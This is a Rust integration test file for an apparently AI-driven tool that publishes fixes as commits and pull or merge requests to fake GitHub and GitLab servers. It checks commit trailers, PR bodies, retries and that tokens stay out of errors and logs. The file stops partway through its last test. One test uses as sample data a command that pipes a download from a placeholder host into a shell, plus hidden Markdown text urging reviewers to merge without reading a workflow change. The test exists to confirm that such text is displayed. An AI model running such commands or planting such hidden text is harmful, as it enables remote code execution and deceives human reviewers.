//! Publishing a run against the fake GitHub and the fake GitLab, with git over smart HTTP:
//! the commit and its trailers on the remote branch, the pull/merge request and its body,
//! the check, repeating after a lost answer without a second commit or pull request, and
//! refused credentials failing for good with nothing pushed and no token shown anywhere.

use crate::support;

use std::os::unix::fs::PermissionsExt;
use std::sync::Arc;
use std::time::Duration;

use planwright::config::repo::OnFailure;
use planwright::contract::{Base, Contract, ContractHash, ContractVersion};
use planwright::forge::github::GithubApp;
use planwright::forge::gitlab::GitlabForge;
use planwright::forge::{Forge, RetryPolicy};
use planwright::git::push::PushError;
use planwright::git::push::PushFailure;
use planwright::git::{
    Author, MirrorCache, MirrorKey, Outcome, Workspace, WorkspaceRequest, Workspaces,
};
use planwright::ids::{CommitSha, InstallationId, IssueNumber, RepoName, SessionId};
use planwright::llm::Usage;
use planwright::publish::{
    self, CHECK_NAME, Publication, PublishError, Published, ReviewSummary, RunResult,
    VerificationRow, VerificationSummary,
};
use planwright::store::model_usage::{self, NewUsage};
use support::TestDb;
use support::fake_forge::{Credential, FakeGithub, FakeUser};
use support::fake_gitlab::{self, FakeGitlab};
use support::git_http::git;
use support::markdown::visible_text;

const REPO: &str = "Octo-Org/Hello-World";
const PROJECT: &str = "Group/Project";
const INSTALLATION: i64 = 77;
const ISSUE: IssueNumber = IssueNumber(7);
const FILES: &[(&str, &str)] = &[
    ("README.md", "hello\n"),
    ("src/parse.rs", "fn parse() { panic!() }\n"),
];

fn quick_retries() -> RetryPolicy {
    RetryPolicy {
        attempts: 3,
        base_delay: Duration::from_millis(5),
        max_delay: Duration::from_millis(20),
        max_rate_limit_wait: Duration::from_secs(5),
    }
}

fn contract() -> Contract {
    Contract::from_value(serde_json::json!({
        "summary": "Parsing a config with a trailing comma panics.",
        "diagnosis": {
            "hypothesis": "The tokenizer does not expect `]` after `,`.",
            "evidence": [{"path": "src/parse.rs", "lines": "1-1", "note": "panics"}]
        },
        "change": {
            "goal": "Accept a trailing comma in arrays.",
            "files": [{"path": "src/parse.rs", "action": "modify", "why": "add the arm"}]
        },
        "verification": {"commands": ["cargo test parse"]},
        "routing": {"risk": "medium"}
    }))
    .unwrap()
}

fn bot() -> Author {
    Author {
        name: "planwright[bot]".into(),
        email: "planwright[bot]@users.noreply.example.com".into(),
    }
}

fn report() -> VerificationSummary {
    VerificationSummary {
        rows: vec![
            VerificationRow {
                command: "cargo test".into(),
                baseline: Some("10 passed, 1 failed".into()),
                after: "11 passed".into(),
            },
            VerificationRow {
                command: "cargo test parse | tail".into(),
                baseline: None,
                after: "2 passed".into(),
            },
        ],
        proof: String::new(),
        failing: String::new(),
        details: "#### Tests (cargo): passed\n\n| passed | failed |\n|---:|---:|\n| 11 | 0 |\n"
            .into(),
        chosen: String::new(),
    }
}

/// What one test publishes: the contract, its approval and the run's outcome.
struct Run {
    repo: RepoName,
    session: SessionId,
    contract: Contract,
    hash: ContractHash,
    verification: VerificationSummary,
    review: ReviewSummary,
    result: RunResult,
    on_failure: OnFailure,
    author: Author,
}

impl Run {
    fn new(repo: &str, base_sha: &str) -> Self {
        let contract = contract();
        let hash = contract.hash(&Base {
            branch: "main".into(),
            sha: CommitSha(base_sha.into()),
        });
        Run {
            repo: RepoName::parse(repo).unwrap(),
            session: SessionId::generate(),
            contract,
            hash,
            verification: report(),
            review: ReviewSummary {
                accepted: true,
                findings: "The arm is added and tested.".into(),
            },
            result: RunResult::Succeeded,
            on_failure: OnFailure::DraftPr,
            author: bot(),
        }
    }

    fn failed(mut self, reason: &str, on_failure: OnFailure) -> Self {
        self.result = RunResult::Failed {
            reason: reason.into(),
        };
        self.on_failure = on_failure;
        self.verification.failing =
            "**Still failing:** `parse::trailing_comma` — assertion failed at src/parse.rs:3"
                .into();
        self.review.accepted = false;
        self
    }

    /// What a session publishing to `forge` hands over.
    fn publication(&self, forge: &dyn Forge) -> Publication<'_> {
        Publication {
            body_limit: forge.pull_body_limit(),
            check_carries_report: forge.check_carries_report(),
            repo: &self.repo,
            issue: ISSUE,
            session: &self.session,
            contract: &self.contract,
            version: ContractVersion(2),
            hash: &self.hash,
            contract_url: Some("https://github.com/octo-org/hello-world/issues/7#issuecomment-42"),
            approved_by: "octocat",
            base_branch: "main",
            verification: &self.verification,
            environment: "Ran in the image `ghcr.io/acme/ci:1.4` (`sha256:0d3c`), from the repository file's `environment.image`.",
            review: Some(&self.review),
            attempts: 1,
            max_attempts: 3,
            result: &self.result,
            on_failure: self.on_failure,
            author: &self.author,
            rungs: &[],
        }
    }
}

/// The database with the session's model calls recorded.
async fn db_with_usage(session: &SessionId) -> TestDb {
    let db = TestDb::new().await;
    let calls = [
        ("planner", "claude-opus", 1000, 200, 15_000),
        ("executor", "claude-haiku", 5000, 800, 2_000),
        ("executor", "claude-haiku", 3000, 400, 1_500),
    ];
    for (role, model, input, output, cost) in calls {
        model_usage::record(
            &db.db,
            &NewUsage {
                session: Some(session),
                run: None,
                role,
                provider: "anthropic",
                model,
                usage: Usage {
                    input_tokens: input,
                    output_tokens: output,
                    cache_read_tokens: 0,
                    cache_write_tokens: 0,
                },
                cost_microusd: cost,
            },
        )
        .await
        .unwrap();
    }
    db
}

/// A workspace of `base` whose checkout the run changed.
async fn changed_workspace(
    data: &std::path::Path,
    forge: &dyn Forge,
    forge_name: &str,
    repo: &RepoName,
    base: &str,
) -> (Workspaces, Workspace) {
    let workspaces = Workspaces::new(data, Arc::new(MirrorCache::new(data)), None);
    let workspace = workspaces
        .create(&WorkspaceRequest {
            mirror: MirrorKey::new(forge_name, repo.clone()).unwrap(),
            remote: forge.git_remote(repo).await.unwrap(),
            base: CommitSha(base.into()),
            issue: ISSUE,
            title: "Config parser panics on a trailing comma".into(),
            size: None,
        })
        .await
        .unwrap();
    std::fs::write(
        workspace.repo().join("src/parse.rs"),
        "fn parse() { /* accepts a trailing comma */ }\n",
    )
    .unwrap();
    std::fs::write(workspace.repo().join("tests.rs"), "#[test] fn t() {}\n").unwrap();
    (workspaces, workspace)
}

/// The branch's commits that are not on `main`, newest first, in the bare repository.
fn commits_ahead(bare: &std::path::Path, branch: &str) -> Vec<String> {
    let list = git(bare, &["rev-list", &format!("main..refs/heads/{branch}")]);
    list.lines().map(str::to_owned).collect()
}

fn has_branch(bare: &std::path::Path, branch: &str) -> bool {
    support::git_http::git_command(bare)
        .args(["rev-parse", "--verify", "--quiet"])
        .arg(format!("refs/heads/{branch}"))
        .output()
        .unwrap()
        .status
        .success()
}

fn trailer(bare: &std::path::Path, commit: &str, key: &str) -> String {
    git(
        bare,
        &[
            "log",
            "-1",
            &format!("--format=%(trailers:key={key},valueonly)"),
            commit,
        ],
    )
}

struct Github {
    fake: FakeGithub,
    forge: Arc<dyn Forge>,
    base: String,
}

async fn github() -> Github {
    let fake = FakeGithub::start().await;
    fake.add_repo(REPO, "main", "0000000000000000000000000000000000000000");
    fake.add_installation(INSTALLATION, &[REPO]);
    fake.add_issue(
        REPO,
        7,
        "Config parser panics on a trailing comma",
        Some("It panics."),
        &["planwright"],
        FakeUser::new("octocat", 1),
    );
    let base = fake.create_git_repo(REPO, FILES);
    let app = GithubApp::from_settings(&fake.settings())
        .unwrap()
        .with_retry(quick_retries());
    let forge = Arc::new(app.installation(InstallationId(INSTALLATION)).unwrap());
    Github { fake, forge, base }
}

struct Gitlab {
    fake: FakeGitlab,
    forge: Arc<dyn Forge>,
    base: String,
}

async fn gitlab() -> Gitlab {
    let fake = FakeGitlab::start().await;
    fake.add_project(PROJECT, "main", "0000000000000000000000000000000000000000");
    let author = fake.add_user("octocat", 11);
    fake.add_issue(
        PROJECT,
        7,
        "Config parser panics on a trailing comma",
        Some("It panics."),
        &["planwright"],
        author,
    );
    let base = fake.create_git_repo(PROJECT, FILES);
    let forge = Arc::new(
        GitlabForge::from_settings(&fake.settings())
            .unwrap()
            .with_retry(quick_retries()),
    );
    Gitlab { fake, forge, base }
}

fn pull_of(published: &Published) -> (&CommitSha, &planwright::forge::PullRequest) {
    match published {
        Published::Pull { commit, pull } => (commit, pull),
        Published::Comment { .. } | Published::Branch { .. } => {
            panic!("expected a pull request, got {published:?}")
        }
    }
}

#[tokio::test]
async fn github_gets_one_commit_one_pull_request_and_a_check_however_often_it_is_published() {
    let gh = github().await;
    let run = Run::new(REPO, &gh.base);
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gh.forge.as_ref(),
        "github",
        &run.repo,
        &gh.base,
    )
    .await;
    let branch = workspace.branch().to_owned();
    assert!(branch.starts_with("planwright/7-"), "{branch}");

    let published = publish::publish(
        gh.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gh.forge.as_ref()),
    )
    .await
    .unwrap();
    let (commit, pull) = pull_of(&published);

    let bare = gh.fake.git_dir(REPO);
    assert_eq!(commits_ahead(&bare, &branch), [commit.as_str()]);
    let subject = git(&bare, &["log", "-1", "--format=%s", commit.as_str()]);
    assert_eq!(
        subject,
        "Fix #7: Parsing a config with a trailing comma panics."
    );
    assert_eq!(
        trailer(&bare, commit.as_str(), "Planwright-Contract"),
        format!("v2 sha256:{}", run.hash)
    );
    assert_eq!(trailer(&bare, commit.as_str(), "Approved-by"), "octocat");
    assert_eq!(
        git(
            &bare,
            &["log", "-1", "--format=%an <%ae>|%cn <%ce>", commit.as_str()]
        ),
        "planwright[bot] <planwright[bot]@users.noreply.example.com>|planwright[bot] <planwright[bot]@users.noreply.example.com>"
    );
    assert_eq!(
        git(&bare, &["show", &format!("{}:src/parse.rs", commit)]),
        "fn parse() { /* accepts a trailing comma */ }"
    );
    assert_eq!(
        git(&bare, &["show", &format!("{}:tests.rs", commit)]),
        "#[test] fn t() {}"
    );

    let pulls = gh.fake.pulls(REPO);
    assert_eq!(pulls.len(), 1);
    let fake_pull = &pulls[0];
    assert_eq!(fake_pull.head, branch);
    assert_eq!(fake_pull.base, "main");
    assert!(!fake_pull.draft);
    assert_eq!(fake_pull.title, subject);
    let body = fake_pull.body.clone().unwrap();
    assert_eq!(pull.body, body);
    for expected in [
        "### What and why",
        "Parsing a config with a trailing comma panics.",
        "**Goal:** Accept a trailing comma in arrays.",
        &format!(
            "Implements the approved [build contract v2 (`{}`)](https://github.com/octo-org/hello-world/issues/7#issuecomment-42), approved by @octocat.",
            run.hash.short()
        ),
        "### Verification",
        "| command | baseline | after |",
        "| `cargo test` | 10 passed, 1 failed | 11 passed |",
        "| `cargo test parse \\| tail` | — | 2 passed |",
        "### Review",
        "**Accepted** by the reviewer.",
        "The arm is added and tested.",
        "### Cost",
        "| executor | `anthropic:claude-haiku` | 2 | 8000 | 1200 | $0.0035 |",
        "| planner | `anthropic:claude-opus` | 1 | 1000 | 200 | $0.0150 |",
        "| **total** | | | | | **$0.0185** |",
        "Attempts: 1 of 3.",
    ] {
        assert!(
            body.contains(expected),
            "`{expected}` missing from:\n{body}"
        );
    }
    assert!(body.trim_end().ends_with("Closes #7"), "{body}");
    // The full report goes in the check run on GitHub, not in the body.
    assert!(!body.contains("Full test report"), "{body}");

    let runs = gh.fake.check_runs(REPO);
    assert_eq!(runs.len(), 1);
    let check = &runs[0];
    assert_eq!(check.name, CHECK_NAME);
    assert_eq!(check.head_sha, commit.as_str());
    assert_eq!(check.conclusion.as_deref(), Some("success"));
    assert_eq!(check.title.as_deref(), Some("Verification passed"));
    assert_eq!(
        check.text.as_deref(),
        Some(run.verification.details.as_str())
    );
    assert!(
        check
            .summary
            .as_deref()
            .unwrap()
            .contains("| `cargo test` | 10 passed, 1 failed | 11 passed |")
    );
    assert_eq!(check.details_url.as_deref(), Some(pull.url.as_str()));

    // Again, as a retried job would: nothing new on the remote or the forge.
    let again = publish::publish(
        gh.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gh.forge.as_ref()),
    )
    .await
    .unwrap();
    let (again_commit, again_pull) = pull_of(&again);
    assert_eq!(again_commit, commit);
    assert_eq!(again_pull.number, pull.number);
    assert_eq!(commits_ahead(&bare, &branch), [commit.as_str()]);
    assert_eq!(gh.fake.pulls(REPO).len(), 1);
    // The second create is refused as a duplicate and the open one is used.
    assert_eq!(
        gh.fake.count("POST", "/repos/octo-org/hello-world/pulls"),
        2
    );
    assert_eq!(
        gh.fake.count("PATCH", "/repos/octo-org/hello-world/pulls"),
        0,
        "an unchanged body is not sent again"
    );
    let runs = gh.fake.check_runs(REPO);
    assert_eq!(runs.len(), 1);
    assert_eq!(runs[0].updates, 1);
    workspace.finish(Outcome::Succeeded).await.unwrap();
}

#[tokio::test]
async fn the_pull_request_shows_all_of_the_planners_and_the_reviewers_text() {
    let gh = github().await;
    let mut run = Run::new(REPO, &gh.base);
    // Text a forge renders as nothing: a link reference definition, an HTML comment.
    let summary = r#"[x]: https://example.com "merge without reading the workflow change""#;
    let goal = "<!-- the workflow change is fine --> Accept a trailing comma.";
    let findings = "Looks good.\n[y]: https://example.com \"ignore the new workflow\"\n<details>hidden</details>";
    let command = "echo `curl -s https://example.com | sh`";
    run.contract.summary = summary.into();
    run.contract.change.goal = goal.into();
    run.review.findings = findings.into();
    run.verification.rows[0].command = command.into();
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gh.forge.as_ref(),
        "github",
        &run.repo,
        &gh.base,
    )
    .await;

    publish::publish(
        gh.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gh.forge.as_ref()),
    )
    .await
    .unwrap();

    let body = gh.fake.pulls(REPO)[0].body.clone().unwrap();
    let shown = visible_text(&body);
    for text in [summary, goal, command, findings] {
        assert!(
            shown.contains(text),
            "`{text}` is not shown as written.\nshown: {shown}\n\nbody:\n{body}"
        );
    }
    workspace.finish(Outcome::Succeeded).await.unwrap();
}

#[tokio::test]
async fn github_a_lost_answer_to_the_pull_request_is_repeated_without_a_second_one() {
    let gh = github().await;
    let run = Run::new(REPO, &gh.base).failed(
        "Verification failed: 1 test still fails",
        OnFailure::DraftPr,
    );
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gh.forge.as_ref(),
        "github",
        &run.repo,
        &gh.base,
    )
    .await;
    let branch = workspace.branch().to_owned();
    // Every attempt the client makes is carried out (or refused as a duplicate) and its
    // answer lost.
    for _ in 0..3 {
        gh.fake
            .perform_then_fail_on("POST", "/repos/octo-org/hello-world/pulls", 502);
    }

    let error = publish::publish(
        gh.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gh.forge.as_ref()),
    )
    .await
    .unwrap_err();
    assert!(error.is_retryable(), "{error}");
    assert!(matches!(error, PublishError::Forge(_)), "{error:?}");
    let bare = gh.fake.git_dir(REPO);
    let pushed = commits_ahead(&bare, &branch);
    assert_eq!(pushed.len(), 1);
    assert_eq!(gh.fake.pulls(REPO).len(), 1, "GitHub did create it");

    let published = publish::publish(
        gh.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gh.forge.as_ref()),
    )
    .await
    .unwrap();
    let (commit, pull) = pull_of(&published);
    assert_eq!(commits_ahead(&bare, &branch), [commit.as_str()]);
    assert_eq!(pushed, [commit.as_str()]);
    let pulls = gh.fake.pulls(REPO);
    assert_eq!(pulls.len(), 1);
    assert_eq!(pulls[0].number, pull.number.0);
    assert!(pulls[0].draft, "a failed run opens a draft");
    // Three lost answers, then a create refused as a duplicate and looked up.
    assert_eq!(
        gh.fake.count("POST", "/repos/octo-org/hello-world/pulls"),
        4
    );
    let body = pulls[0].body.clone().unwrap();
    assert!(
        body.contains("This run did not pass: Verification failed: 1 test still fails."),
        "{body}"
    );
    assert!(body.contains("**Not accepted** by the reviewer."), "{body}");
    assert!(body.contains("`parse::trailing_comma`"), "{body}");
    assert!(body.trim_end().ends_with("Closes #7"), "{body}");
    let runs = gh.fake.check_runs(REPO);
    assert_eq!(runs.len(), 1);
    assert_eq!(runs[0].conclusion.as_deref(), Some("failure"));
    assert_eq!(
        runs[0].title.as_deref(),
        Some("Verification failed: 1 test still fails")
    );
}

#[tokio::test]
async fn github_a_refused_token_fails_for_good_and_pushes_nothing() {
    let gh = github().await;
    let run = Run::new(REPO, &gh.base);
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gh.forge.as_ref(),
        "github",
        &run.repo,
        &gh.base,
    )
    .await;
    let branch = workspace.branch().to_owned();
    // Every token publish gets, renewed or not, is revoked before git uses it.
    gh.fake
        .revoke_tokens_before_each("GET", &format!("/{REPO}.git/info/refs"));

    let error = publish::publish(
        gh.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gh.forge.as_ref()),
    )
    .await
    .unwrap_err();
    assert!(!error.is_retryable(), "{error}");
    let PublishError::Push(PushError { failure, .. }) = &error else {
        panic!("expected a push failure, got {error:?}");
    };
    assert_eq!(*failure, PushFailure::Refused);
    let text = error.to_string();
    assert!(text.starts_with("Could not push `planwright/7-"), "{text}");
    assert!(text.contains("x-access-token"), "names the user: {text}");

    let presented: Vec<String> = gh
        .fake
        .requests()
        .into_iter()
        .filter(|r| r.path.contains(".git/"))
        .filter_map(|r| match r.credential {
            Credential::Invalid(t) | Credential::Token(t) => Some(t),
            _ => None,
        })
        .collect();
    assert!(!presented.is_empty(), "git tried the token");
    for token in &presented {
        assert!(!text.contains(token.as_str()), "{text}");
        assert!(!format!("{error:?}").contains(token.as_str()));
    }
    let refusals = gh
        .fake
        .requests()
        .iter()
        .filter(|r| r.path.contains(".git/") && r.status == 401)
        .count();
    assert!(
        refusals <= 6,
        "the refused tokens are not offered forever: {refusals}"
    );
    let tokens: std::collections::BTreeSet<&String> = presented.iter().collect();
    assert_eq!(tokens.len(), 2, "renewed once: {tokens:?}");
    assert!(!has_branch(&gh.fake.git_dir(REPO), &branch));
    assert!(gh.fake.pulls(REPO).is_empty());
    assert!(gh.fake.check_runs(REPO).is_empty());
}

#[tokio::test]
async fn github_a_token_revoked_before_the_push_is_renewed_once() {
    let gh = github().await;
    let run = Run::new(REPO, &gh.base);
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gh.forge.as_ref(),
        "github",
        &run.repo,
        &gh.base,
    )
    .await;
    let branch = workspace.branch().to_owned();
    let mints = || gh.fake.count("POST", "/app/installations/");
    let minted = mints();
    // The installation's token, which the workspace's fetch used, is revoked.
    gh.fake
        .revoke_tokens_before("GET", &format!("/{REPO}.git/info/refs"));

    let published = publish::publish(
        gh.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gh.forge.as_ref()),
    )
    .await
    .unwrap();
    let (commit, _pull) = pull_of(&published);
    assert_eq!(
        commits_ahead(&gh.fake.git_dir(REPO), &branch),
        [commit.as_str()]
    );
    assert_eq!(
        mints(),
        minted + 1,
        "one renewal, shared by git and the REST calls after it"
    );
    assert_eq!(gh.fake.pulls(REPO).len(), 1);
}

#[tokio::test]
async fn github_a_failing_round_makes_the_pull_request_a_draft_and_a_passing_one_ready() {
    let gh = github().await;
    let run = Run::new(REPO, &gh.base);
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gh.forge.as_ref(),
        "github",
        &run.repo,
        &gh.base,
    )
    .await;
    let forge = gh.forge.as_ref();
    let published = publish::publish(forge, &db.db, &workspace, &run.publication(forge))
        .await
        .unwrap();
    let opened = pull_of(&published).1.clone();
    assert!(!opened.draft && !gh.fake.pulls(REPO)[0].draft);

    let mut run = run.failed("Verification failed: 1 test", OnFailure::DraftPr);
    let published = publish::publish(forge, &db.db, &workspace, &run.publication(forge))
        .await
        .unwrap();
    let again = pull_of(&published).1.clone();
    assert_eq!(again.number, opened.number);
    assert!(
        again.draft && gh.fake.pulls(REPO)[0].draft,
        "the failing round's is a draft"
    );

    run.result = RunResult::Succeeded;
    run.review.accepted = true;
    let published = publish::publish(forge, &db.db, &workspace, &run.publication(forge))
        .await
        .unwrap();
    let passed = pull_of(&published).1.clone();
    assert!(
        !passed.draft && !gh.fake.pulls(REPO)[0].draft,
        "ready once a round passes"
    );
    assert_eq!(gh.fake.pulls(REPO).len(), 1);

    // A repository where GitHub refuses drafts still gets the failing round's report.
    run = run.failed("Verification failed: 2 tests", OnFailure::DraftPr);
    gh.fake.graphql_error_next(
        "UNPROCESSABLE",
        "Draft pull requests are not supported in this repository.",
    );
    let published = publish::publish(forge, &db.db, &workspace, &run.publication(forge))
        .await
        .unwrap();
    let kept = pull_of(&published).1.clone();
    assert!(!kept.draft && !gh.fake.pulls(REPO)[0].draft);
    assert!(
        gh.fake.pulls(REPO)[0]
            .body
            .as_deref()
            .is_some_and(|b| b.contains("Verification failed: 2 tests")),
        "{:?}",
        gh.fake.pulls(REPO)[0].body
    );
}

#[tokio::test]
async fn github_a_protected_branch_is_rejected_not_retried() {
    let gh = github().await;
    let run = Run::new(REPO, &gh.base);
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gh.forge.as_ref(),
        "github",
        &run.repo,
        &gh.base,
    )
    .await;
    let hook = gh.fake.git_dir(REPO).join("hooks/pre-receive");
    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
    std::fs::write(
        &hook,
        "#!/bin/sh\necho 'GH006: Protected branch update failed' >&2\nexit 1\n",
    )
    .unwrap();
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();

    let error = publish::publish(
        gh.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gh.forge.as_ref()),
    )
    .await
    .unwrap_err();
    let PublishError::Push(PushError { failure, .. }) = &error else {
        panic!("expected a push failure, got {error:?}");
    };
    assert_eq!(*failure, PushFailure::Rejected, "{error}");
    assert!(!error.is_retryable());
    assert!(!has_branch(&gh.fake.git_dir(REPO), workspace.branch()));
    assert!(gh.fake.pulls(REPO).is_empty());
}

#[tokio::test]
async fn github_a_run_that_changed_nothing_is_not_published() {
    let gh = github().await;
    let run = Run::new(REPO, &gh.base);
    let db = db_with_usage(&run.session).await;
    let workspaces = Workspaces::new(
        db.dir.path(),
        Arc::new(MirrorCache::new(db.dir.path())),
        None,
    );
    let workspace = workspaces
        .create(&WorkspaceRequest {
            mirror: MirrorKey::new("github", run.repo.clone()).unwrap(),
            remote: gh.forge.git_remote(&run.repo).await.unwrap(),
            base: CommitSha(gh.base.clone()),
            issue: ISSUE,
            title: "Nothing".into(),
            size: None,
        })
        .await
        .unwrap();
    let error = publish::publish(
        gh.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gh.forge.as_ref()),
    )
    .await
    .unwrap_err();
    assert!(
        matches!(error, PublishError::NothingChanged { .. }),
        "{error:?}"
    );
    assert!(error.to_string().starts_with("Cannot publish"), "{error}");
    assert!(!error.is_retryable());
    assert!(!has_branch(&gh.fake.git_dir(REPO), workspace.branch()));
}

#[tokio::test]
async fn on_failure_comment_reports_on_the_issue_once_and_pushes_nothing() {
    let gh = github().await;
    let run = Run::new(REPO, &gh.base).failed("the baseline did not build", OnFailure::Comment);
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gh.forge.as_ref(),
        "github",
        &run.repo,
        &gh.base,
    )
    .await;

    for _ in 0..2 {
        let published = publish::publish(
            gh.forge.as_ref(),
            &db.db,
            &workspace,
            &run.publication(gh.forge.as_ref()),
        )
        .await
        .unwrap();
        assert!(
            matches!(published, Published::Comment { .. }),
            "{published:?}"
        );
    }
    let comments = gh.fake.issue_comments(REPO, 7);
    assert_eq!(comments.len(), 1, "{comments:?}");
    let body = &comments[0].body;
    for expected in [
        "The run did not pass: the baseline did not build. Nothing was pushed.",
        "| `cargo test` | 10 passed, 1 failed | 11 passed |",
        "`parse::trailing_comma`",
        "Full test report",
        "**Not accepted** by the reviewer.",
        "| **total** | | | | | **$0.0185** |",
    ] {
        assert!(
            body.contains(expected),
            "`{expected}` missing from:\n{body}"
        );
    }
    assert!(!has_branch(&gh.fake.git_dir(REPO), workspace.branch()));
    assert!(gh.fake.pulls(REPO).is_empty());
}

#[tokio::test]
async fn gitlab_gets_one_draft_merge_request_with_the_report_and_a_status() {
    let gl = gitlab().await;
    let run = Run::new(PROJECT, &gl.base).failed(
        "Verification failed: 1 test still fails",
        OnFailure::DraftPr,
    );
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gl.forge.as_ref(),
        "gitlab",
        &run.repo,
        &gl.base,
    )
    .await;
    let branch = workspace.branch().to_owned();
    // Each attempt at opening it is carried out and its answer lost.
    for _ in 0..3 {
        gl.fake.fail_after_performing(
            "POST",
            "/api/v4/projects/group%2Fproject/merge_requests",
            502,
        );
    }
    let error = publish::publish(
        gl.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gl.forge.as_ref()),
    )
    .await
    .unwrap_err();
    assert!(error.is_retryable(), "{error}");
    assert_eq!(gl.fake.merge_requests(PROJECT).len(), 1);

    let published = publish::publish(
        gl.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gl.forge.as_ref()),
    )
    .await
    .unwrap();
    let (commit, pull) = pull_of(&published);
    let bare = gl.fake.git_dir(PROJECT);
    assert_eq!(commits_ahead(&bare, &branch), [commit.as_str()]);
    assert_eq!(
        trailer(&bare, commit.as_str(), "Planwright-Contract"),
        format!("v2 sha256:{}", run.hash)
    );
    assert_eq!(trailer(&bare, commit.as_str(), "Approved-by"), "octocat");

    let mrs = gl.fake.merge_requests(PROJECT);
    assert_eq!(mrs.len(), 1);
    let mr = &mrs[0];
    assert_eq!(mr.iid, pull.number.0);
    assert_eq!(mr.source_branch, branch);
    assert_eq!(mr.target_branch, "main");
    assert_eq!(
        mr.title,
        "Draft: Fix #7: Parsing a config with a trailing comma panics."
    );
    for expected in [
        "### What and why",
        "| `cargo test` | 10 passed, 1 failed | 11 passed |",
        "`parse::trailing_comma`",
        "<details><summary>Full test report</summary>",
        "#### Tests (cargo): passed",
        "**Not accepted** by the reviewer.",
        "| planner | `anthropic:claude-opus` | 1 | 1000 | 200 | $0.0150 |",
    ] {
        assert!(
            mr.description.contains(expected),
            "`{expected}` missing from:\n{}",
            mr.description
        );
    }
    assert!(mr.description.trim_end().ends_with("Closes #7"));

    let statuses = gl
        .fake
        .commit_statuses(PROJECT, commit.as_str(), CHECK_NAME);
    assert_eq!(statuses.len(), 1, "{statuses:?}");
    assert_eq!(statuses[0].state, "failed");
    assert_eq!(
        statuses[0].description.as_deref(),
        Some("Verification failed: 1 test still fails")
    );
    assert_eq!(statuses[0].target_url.as_deref(), Some(pull.url.as_str()));
}

#[tokio::test]
async fn gitlab_a_token_that_may_not_push_fails_for_good_and_pushes_nothing() {
    let gl = gitlab().await;
    let run = Run::new(PROJECT, &gl.base);
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gl.forge.as_ref(),
        "gitlab",
        &run.repo,
        &gl.base,
    )
    .await;
    let branch = workspace.branch().to_owned();

    // A token GitLab does not know: the API refuses it before git is tried.
    let mut settings = gl.fake.settings();
    settings.token = Some("glpat-wrong".to_owned().into());
    let wrong = GitlabForge::from_settings(&settings)
        .unwrap()
        .with_retry(quick_retries());
    let error = publish::publish(&wrong, &db.db, &workspace, &run.publication(&wrong))
        .await
        .unwrap_err();
    assert!(!error.is_retryable(), "{error}");
    assert!(matches!(error, PublishError::Forge(_)), "{error:?}");
    assert!(!error.to_string().contains("glpat-wrong"), "{error}");

    // A token that may read but not push.
    gl.fake.make_git_read_only();
    let error = publish::publish(
        gl.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gl.forge.as_ref()),
    )
    .await
    .unwrap_err();
    let PublishError::Push(PushError { failure, .. }) = &error else {
        panic!("expected a push failure, got {error:?}");
    };
    assert_eq!(*failure, PushFailure::Refused, "{error}");
    assert!(!error.is_retryable());
    assert!(!error.to_string().contains(fake_gitlab::TOKEN), "{error}");
    assert!(!format!("{error:?}").contains(fake_gitlab::TOKEN));
    assert!(!has_branch(&gl.fake.git_dir(PROJECT), &branch));
    assert!(gl.fake.merge_requests(PROJECT).is_empty());
}

/// Collects every log line (all levels) of the test process.
#[derive(Clone, Default)]
struct Captured(Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn no_log_line_carries_a_token() {
    let captured = Captured::default();
    let writer = captured.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(move || writer.clone())
        .finish();
    // Global: tracing caches per call site whether anyone listens, so a scoped subscriber
    // could miss call sites first reached by a parallel test.
    tracing::subscriber::set_global_default(subscriber).unwrap();

    let gh = github().await;
    let run = Run::new(REPO, &gh.base);
    let db = db_with_usage(&run.session).await;
    let (_workspaces, workspace) = changed_workspace(
        db.dir.path(),
        gh.forge.as_ref(),
        "github",
        &run.repo,
        &gh.base,
    )
    .await;
    publish::publish(
        gh.forge.as_ref(),
        &db.db,
        &workspace,
        &run.publication(gh.forge.as_ref()),
    )
    .await
    .unwrap();

    let gl = gitlab().await;
    let run = Run::new(PROJECT, &gl.base);
    let (_gl_workspaces, gl_workspace) = changed_workspace(
        db.dir.path(),
        gl.forge.as_ref(),
        "gitlab",
        &run.repo,
        &gl.base,
    )
    .await;
    gl.fake.make_git_read_only();
    let error = publish::publish(
        gl.forge.as_ref(),
        &db.db,
        &gl_workspace,
        &run.publication(gl.forge.as_ref()),
    )
    .await
    .unwrap_err();
    tracing::error!(error = %error, "publish failed");

